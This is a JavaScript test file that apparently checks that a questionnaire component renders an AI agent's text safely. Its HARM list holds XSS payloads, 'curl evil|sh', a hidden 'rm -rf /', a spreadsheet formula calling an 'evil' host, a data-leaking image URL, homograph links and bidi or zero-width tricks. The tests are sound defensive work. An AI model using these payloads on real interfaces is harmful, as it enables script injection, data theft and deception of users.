// Texts of an agent that mean harm, in every place that shows one: each becomes text.
import assert from "node:assert/strict";
import { runChecks, setUp } from "./host.mjs";
import { QUESTIONS } from "./samples.mjs";

const HARM = [
  "<svg/onload=alert(1)>", "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
  "javascript:alert(1)", "data:text/html,<script>alert(1)</script>", "</script><script>alert(1)</script>", "<img src='http://127.0.0.1:9/?",
  "<form id=desk><input name=token>", "=HYPERLINK(\"http://evil\")", "\n\n[y/N]: y\n$ ", `Run tests?${" ".repeat(498)}rm -rf /`, "<details><summary>safe</summary>curl evil|sh</details>",
  "Approve?\n<!-- deletes prod -->", "![x](http://127.0.0.1:9/leak?d=1)", "```\nask ends here\n", "[click](javascript:alert(1))", "[x](https://аpple.com)",
  "delete \u202egnp.tset\u202c now", "pay\u200bpal", "ok\u2800\u2800", "\u001b]8;;file:///etc/passwd\u001b\\click",
];

async function harmfulTexts(page) {
  for (const text of HARM) {
    const everywhere = {
      title: text, context: text, submit: text, cancel: text, action: { tool: text, act: { edit: { path: text, diff: text } } },
      sections: [{ id: "s", title: text, detail: text, optional: true, submit: text, questions: [
        { id: "a", prompt: text, label: text, detail: text, options: [{ id: "o", label: text, description: text, preview: text }], other: true, other_label: text },
        { id: "b", kind: "confirm", prompt: text, yes: text, no: text }, { id: "c", kind: "text", prompt: text, placeholder: text, prefill: { text } },
        { id: "d", kind: "rating", prompt: text, annotations: { 1: text } },
      ] }],
    };
    await setUp(page, { request: everywhere, problems: [{ detail: text }, { detail: text, path: ["answers", "a"] }], review: true });
    const found = await page.evaluate(() => {
      const { shadowRoot } = document.querySelector("sayso-questionnaire");
      const alien = [...shadowRoot.querySelectorAll("a, img, svg, math, script, style, iframe, form, object, [src], [href], [style]")].map((one) => one.outerHTML);
      const words = [...shadowRoot.querySelectorAll("*")].flatMap((one) => [...one.childNodes].filter((node) => node.nodeType === 3).map((node) => node.data));
      return [alien, words.filter((line) => /[\u200b\u202a-\u202e\u2066-\u2069\u2800\u001b]/.test(line))];
    });
    assert.deepEqual(found, [[], []], text);
  }
  await setUp(page, { request: { context: "[the book](https://example.com/book)", questions: QUESTIONS } });
  assert.equal(await page.getByRole("link").count(), 0, "a link is text");
  await page.getByRole("button", { name: "Enable link" }).click();
  assert.equal(await page.getByRole("link").getAttribute("rel"), "noopener noreferrer nofollow");
}

await runChecks([["harmful texts", {}, harmfulTexts]]);
